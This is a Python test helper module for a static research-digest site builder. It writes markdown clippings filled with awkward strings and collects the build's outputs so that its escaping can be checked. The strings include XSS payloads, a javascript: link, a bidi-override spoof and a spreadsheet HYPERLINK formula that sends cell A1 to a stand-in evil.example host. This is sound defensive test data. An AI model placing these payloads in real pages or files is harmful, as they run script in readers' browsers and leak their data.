"""All that a build makes of some clippings, without an engine; and texts that are hard to write down."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path

from research_digest.body import render_here
from research_digest.build import Built, gather, make
from research_digest.library.site import Site
from research_digest.model import Page
from research_digest.settings import Settings

SETTINGS = Settings(site_url="https://digest.example/", site_name="Night & Day", canonical="own")

HARD: dict[str, str] = {
    "plain": "Sleep and memory",
    "markup": "<b>bold</b> & <script>alert(1)</script> &amp; &lt;",
    "end of script": "</script><script>alert(1)</script>",
    "end of data": "]]> --> <![CDATA[ <!-- ]]>",
    "controls": "a\x00b\x07c\x1bd\x85e\u2028f\u2029g\ufffeh",
    "lone halves": "&#xD800; &#0; &#x1F; a\ufdd0b",
    "emoji": "Sleep 😴 family 👨‍👩‍👧 flag 🏴",
    "right to left": "ذاكرة \u202eevil\u202c النوم",
    "braces": r"Open { and \{ and } \} \\ {\textbf{x}",
    "signs": "100% of $5 & #1_a ~b ^c @d \"e\" 'f' `g` |h|",
    "formula": '=HYPERLINK("https://evil.example/?"&A1)',
    "minus": "- a list, or not",
    "number": "1984. A novel",
    "ris": "TY  - JOUR ER  - UR  - https://evil.example/",
    "markdown": "[a](javascript:alert(1)) *b* ==c== ![d](https://evil.example/e.png)",
    "fence": "--- ``` ~~~ %%x%%",
    "comma": "Doe, Jane; Roe, Richard and Poe, Edgar",
    "long": "word " * 55,
}


@dataclass(frozen=True)
class Outputs:
    """What was made: the site before it had pages, and all that came of it."""

    site: Site
    built: Built

    def file(self, path: str) -> bytes:
        (found,) = [each for each in self.built.files if each.path == path]
        return found.make()

    def pages(self) -> tuple[Page, ...]:
        return tuple(each.make() for each in self.built.pages)

    def text(self, path: str) -> str:
        return self.file(path).decode("utf-8")

    def files(self, ending: str) -> dict[str, bytes]:
        return {each.path: each.make() for each in self.built.files if each.path.endswith(ending)}


def write(folder: Path, clippings: Mapping[str, str]) -> None:
    for path, text in clippings.items():
        file = folder / "clippings" / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(text.encode("utf-8", "surrogatepass"))


def outputs(folder: Path, clippings: Mapping[str, str], settings: Settings = SETTINGS) -> Outputs:
    write(folder, clippings)
    (folder / "clippings").mkdir(exist_ok=True)
    return Outputs(
        gather(settings, root=folder, render=render_here).site, make(settings, root=folder, render=render_here)
    )


def quoted(text: str) -> str:
    """Between single quotes, as YAML has it."""
    return "'" + text.replace("'", "''") + "'"


def hard(text: str, number: int = 1) -> str:
    """A clipping that says `text` wherever it can."""
    return (
        f"---\ntitle: {quoted(text)}\nsource: https://example.org/{number}\nauthor:\n  - {quoted(text)}\n"
        f"published: 2024-05-06\ncreated: 2025-01-{number:02}\ndescription: {quoted(text)}\n"
        f"publication: {quoted(text)}\ntags:\n  - {quoted(text)}\n---\n{text}\n\n```\n{text}\n```\n"
    )


def hard_clippings() -> dict[str, str]:
    """A clipping for each hard text; one by 300, one that tells nothing, one that tells years alone."""
    several = {f"{name}.md": hard(text, number) for number, (name, text) in enumerate(HARD.items(), 1)}
    crowd = "".join(f"  - Ada{number} Lovelace{number}\n" for number in range(300))
    return {
        **several,
        "crowd.md": f"---\ntitle: Crowd\nsource: https://example.org/crowd\nauthor:\n{crowd}---\nMany.\n",
        "bare.md": "Nothing but a text.\n",
        "years.md": "---\ntitle: Years\npublished: 1951\ncreated: 2025\n---\nText.\n",
    }
